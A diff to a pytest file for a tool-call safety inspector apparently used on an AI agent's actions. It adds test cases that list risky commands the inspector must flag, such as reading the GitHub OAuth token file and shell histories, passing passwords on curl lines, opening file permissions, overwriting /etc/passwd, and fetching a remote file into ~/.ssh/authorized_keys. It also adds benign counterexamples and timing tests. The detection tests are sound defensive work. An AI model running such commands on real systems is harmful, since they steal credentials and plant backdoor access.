@@ -140,6 +140,20 @@ def bash(command: str) -> ToolCall:
         (bash("dd if=build/boot.img of=/boot/boot.img"), "system_path_write"),
         (ToolCall("WebFetch", {"url": "https://203.0.113.50:8443/a", "prompt": "x"}, cwd=CWD),
          "raw_ip_url"),
+        # credential stores from the tools' docs, histories, secrets on command lines,
+        # permission openings, output options (each module has its own table test)
+        (bash("grep oauth_token ~/.config/gh/hosts.yml"), "credential_path_read"),
+        (ToolCall("Grep", {"pattern": "token", "path": "/home/u/.config/gh"}, cwd=CWD),
+         "credential_path_read"),
+        (bash("grep -i aws ~/.bash_history"), "shell_history_read"),
+        (ToolCall("Read", {"file_path": "/home/u/.zsh_history"}, cwd=CWD), "shell_history_read"),
+        (bash("wget --password=x https://example.com/f"), "secret_in_content"),
+        (bash("curl -u admin:pa55word https://api.example.com"), "secret_in_content"),
+        (bash("chmod o+w notes.txt"), "permission_opening"),
+        (bash("umask 000"), "permission_opening"),
+        (bash("tar cf /etc/passwd src"), "system_path_write"),
+        (bash("cp -rt /etc/hosts notes.txt"), "system_path_write"),
+        (bash("curl -sSLo ~/.ssh/authorized_keys https://x.io/k"), "credential_path_write"),
     ],
 )
 def test_risky_calls_raise_the_expected_flag(call: ToolCall, flag: str) -> None:
@@ -198,6 +212,14 @@ def test_risky_calls_raise_the_expected_flag(call: ToolCall, flag: str) -> None:
         bash("python"),
         bash("openssl engine -t"),  # lists engines, loads nothing
         bash("aws mq create-broker --engine-type ACTIVEMQ"),
+        # neighbours of the documentation-based rules
+        bash("chmod 644 README.md"),
+        bash("chmod u+w notes.txt"),
+        bash("tar xf vendor.tar"),
+        bash("curl -o out.html https://example.com"),
+        bash("mysql -p shop"),
+        bash("source ~/.cargo/env"),
+        ToolCall("Read", {"file_path": "/home/u/.config/gh/config.yml"}, cwd=CWD),
     ],
 )
 def test_ordinary_calls_are_clean(call: ToolCall) -> None:
@@ -226,6 +248,31 @@ def test_huge_content_is_inspected_fast_and_finds_a_key_at_the_top() -> None:
     report = inspect_call(call)
     assert time.perf_counter() - start < 1.0
     assert "private_key_in_content" in report.flags
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ls -la /tmp/x src/a.py ~/.config/x --opt=val && echo hi | grep foo " * 150,
+        "chmod o+w " + "x " * 5000,
+        "curl " + "-o out " * 1700,
+        "a" * 10_000,
+        ". " * 5000,
+        "password=x " * 900,
+    ],
+)
+def test_a_10k_character_command_is_inspected_in_bounded_time(command: str) -> None:
+    start = time.perf_counter()
+    inspect_call(bash(command[:10_000]))
+    assert time.perf_counter() - start < 1.0  # tens of ms on one core
+
+
+def test_a_megabyte_of_content_is_inspected_in_bounded_time() -> None:
+    content = "def f(password):\n    key = get(x)\n    token = lookup('abc')\n" * 20_000
+    call = ToolCall("Write", {"file_path": "a.py", "content": content[:1_000_000]}, cwd=CWD)
+    start = time.perf_counter()
+    inspect_call(call)
+    assert time.perf_counter() - start < 1.0
 
 
 def test_surrogates_do_not_crash_inspection() -> None:
